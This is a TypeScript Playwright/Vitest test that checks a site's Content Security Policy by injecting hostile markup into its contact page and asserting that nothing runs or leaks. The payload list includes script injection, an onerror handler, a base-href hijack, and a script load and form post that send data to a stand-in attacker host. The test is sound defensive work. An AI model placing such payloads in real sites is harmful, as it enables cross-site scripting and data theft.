import type { Page } from 'playwright';
import { expect, test } from 'vitest';
import { problemsOf, rewriting, usePages } from './pages.ts';

// What an attacker might try through a vulnerability in the site. None of it may work.
const FOREIGN = 'https://elsewhere.example';
const pages = usePages('fixture');

const INJECTED = [
  '<script>window.injected = true</script>',
  `<script src="${FOREIGN}/evil.js"></script>`,
  '<img src="/no-such-picture.png" alt="" onerror="window.injected = true">',
  '<p id="styled" style="color: rgb(1, 2, 3)">A paragraph</p>',
  '<style>#styled { background: rgb(1, 2, 3) }</style>',
  `<base href="${FOREIGN}/">`,
  `<iframe src="${FOREIGN}/frame"></iframe><object data="${FOREIGN}/object"></object>`,
  `<img src="${FOREIGN}/picture.png" alt="">`,
  `<form id="form" action="${FOREIGN}/collect" method="post"><input name="secret" value="1"></form>`,
].join('');

test('injected markup runs, styles, loads, redirects, and sends nothing', async () => {
  const sent: string[] = [];
  const prepare = async (opened: Page) => {
    await rewriting((html) => html.replace('<main', () => `${INJECTED}<main`))(opened);
    // Requests that the policy blocks don't get this far.
    await opened.route(`${FOREIGN}/**`, (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
  };
  const page = await pages.open('/contact/', { prepare });
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  const style = await page.locator('#styled').evaluate((element) => {
    const { color, backgroundColor } = getComputedStyle(element);
    return color + backgroundColor;
  });
  expect(style).not.toContain('rgb(1, 2, 3)');
  expect(await page.evaluate(() => document.baseURI)).toBe(pages.addressOf('/contact/'));
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')!.submit());
  const violated = async () =>
    (await problemsOf(page)).flatMap((problem) => /policy violated: (\S+)/.exec(problem)?.[1] ?? []);
  const inMarkup = ['base-uri', 'frame-src', 'img-src', 'object-src', 'form-action'];
  const inCode = ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
  await expect.poll(violated).toEqual(expect.arrayContaining([...inMarkup, ...inCode]));
  expect([sent, page.url()]).toEqual([[], pages.addressOf('/contact/')]);
});
